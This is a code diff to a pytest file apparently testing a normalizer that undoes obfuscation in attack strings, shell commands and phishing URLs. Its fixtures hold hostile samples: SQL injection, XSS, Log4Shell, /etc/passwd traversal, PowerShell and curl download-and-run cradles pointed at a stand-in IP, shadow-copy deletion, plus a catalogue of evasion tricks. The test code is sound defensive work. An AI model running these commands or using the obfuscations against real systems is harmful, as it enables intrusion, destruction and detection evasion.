@@ -179,7 +179,44 @@ def test_any_text_is_normalized_and_stays_so(text, name):
 @pytest.mark.parametrize("name", NEW)
 @pytest.mark.parametrize(
     "piece",
-    ["%25", "&#", "a'", "QUJD", "^", "$ifs", "${", "b" * 31 + "c", ",a=", "chr(65)||", "65,", "{a,", "/a/..", "//0x", "/*a", "# ", "A b "],
+    [
+        "%25",
+        "&#",
+        "a'",
+        "QUJD",
+        "^",
+        "$ifs",
+        "${",
+        "b" * 31 + "c",
+        ",a=",
+        "chr(65)||",
+        "65,",
+        "{a,",
+        "/a/..",
+        "//0x",
+        "/*a",
+        "# ",
+        "A b ",
+        "[{",
+        '[{"a":',
+        "${PATH:0:1}",
+        "/a\\",
+        "a=b;",
+        "-join'a",
+        "?a[b]",
+        "\0a",
+        "data:;base64,",
+        "00:",
+        "aa bb ",
+        "<#a",
+        "env ",
+        "((a)",
+        "(.)",
+        "$env:comspec[4,",
+        "base32 -d <<< ",
+        "set a=b& ",
+        "X=1 ",
+    ],
 )
 def test_overlong_texts_take_linear_time(name, piece):
     """A quadratic pattern would take minutes here, beyond the time limit of a test run."""
@@ -191,14 +228,29 @@ def test_overlong_texts_take_linear_time(name, piece):
 def test_every_change_applies_to_something(task):
     rng = random.Random(3)
     texts = {
-        "uri-attack": ["1' UNION SELECT 'abc' FROM b -- <svg>", "../../../etc/passwd", "x;cat /etc/passwd"],
+        "uri-attack": [
+            "1' UNION SELECT 'abc' FROM b -- <svg>",
+            "../../../etc/passwd",
+            "x;cat /etc/passwd",
+            "{{7*7}}",
+            "${jndi:ldap://x/a}",
+            "<a href=javascript:alert(1)>",
+            "<img src=x onerror=alert(1)>",
+            "1 and 2",
+        ],
         "cmdline": [
             "powershell -c IEX(iwr 'http://198.51.100.7/abcdefgh')",
             "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')",
         ],
-        "url-phishing": ["login.example.com/a/b.php"],
+        "url-phishing": ["login.example.com/a/b.php", "198.51.100.7/a/"],
     }[task] + ["curl http://198.51.100.7/x | sh"]
-    texts += ["print('download')"] if task == "cmdline" else []
+    texts += [
+        "print('download')",
+        "Write-Host 5",
+        "cd /tmp; wget -q http://x/y",
+        "certutil -f http://x/y",
+        "vssadmin delete shadows /all",
+    ] * (task == "cmdline")
     for name, change in {**evasion.CHANGES[task], **evasion.FURTHER[task]}.items():
         made = [found for text in texts if (found := change(rng, text))]
         assert made, name
@@ -213,6 +265,44 @@ def test_changes_are_undone_where_the_target_undoes_them():
     line = "curl http://198.51.100.7/x | sh"
     for name in ("double blanks", "tabs for blanks", "30 blanks after each word", "IP as integer", "$IFS for blanks", "quotes in words"):
         assert command(evasion.COMMAND_CHANGES[name](rng, line)) == line, name
+
+
+REQUESTS = (
+    "base64url without padding", "data: with base64", "base64 of UTF-16, big end first", "hexadecimal in pairs", "hexadecimal with colons",
+    "every letter \\u00HH", "every letter %u00HH", "entities escaped again", "overlong letters", "bold letters", "UTF-16 %-encoded",
+    "full-width throughout", "blanks of no width around", "SQL: long comments", "SQL: a line comment for blanks",
+)  # fmt: skip
+COMMANDS = (
+    "sh -c", "eval", "bash <<<", "echo | bash", "setsid", "command", "full paths", "halves in variables", "address in a variable",
+    "slices for slashes", "slices for slashes, $HOME", "words in quotes", "lines continued", "comments between lines",
+    "assignments before", "base64 --decode", "base32 -d", "xxd of lines", "rev",
+)  # fmt: skip
+ADDRESSES = (
+    "https:\\\\ with back slashes", "blanks around", "in angle brackets", "in quotes", "view-source:", "a tab in the scheme", "bold host",
+    "(.)", "[dot]", "{.}", "host %-encoded", "/a/.. in the path", "matrix parameters", "every byte of the path", "no user before @",
+)  # fmt: skip
+
+
+def test_invented_changes_are_undone_too():
+    rng = random.Random(7)
+    value = "1' union select name,secret from users -- x"
+    for name in REQUESTS:
+        assert request(evasion.FURTHER["uri-attack"][name](rng, value)).endswith(value), name
+    line = "curl -s http://198.51.100.7/x | sh"
+    for name in COMMANDS:
+        assert command(evasion.FURTHER["cmdline"][name](rng, line)).rstrip("; ") == line, name
+    address = "login.example.com/a/b.php"
+    for name in ADDRESSES:
+        assert NORMALIZERS["page"](evasion.FURTHER["url-phishing"][name](rng, address)) == address, name
+    assert request("/a?b[c][]=1&d[__proto__][x]=2") == "/a?b.c=1&d[__proto__][x]=2"
+    assert request("/a/1' or 2.css") == "/a/1' or 2" and request("/a/b-1.css") == "/a/b-1.css"
+    assert request('/find?q="red shoes"&n=1') == "/find?q=red shoes&n=1"
+    assert request("/find?file=/..\\..\\windows\\win.ini") == "/find?file=/..\\..\\windows\\win.ini"
+    for kept in ("LD_PRELOAD=/tmp/x.so sshd", "HISTFILE=/dev/null bash", "cat c:\\a\\b\\c", "FOO=1", "sudo -l", "sh -c 'a' 'b'"):
+        assert command(kept) == kept.lower()
+    text = "powershell -c \"iex(-join('x/7.001.15.891//:ptth lruc'[-1..-25]))\""
+    assert "curl http://198.51.100.7/x" in command(text)
+    assert command("& $env:ComSpec[4,15,25]-join'' (irm http://198.51.100.7/x)").startswith("& iex (irm")
 
 
 @pytest.mark.parametrize("shown", ["Get-Item -Path HKLM:\\Software", "New-Object Net.WebClient", "ls -la /Users/anna", "SELECT", "ps aux"])
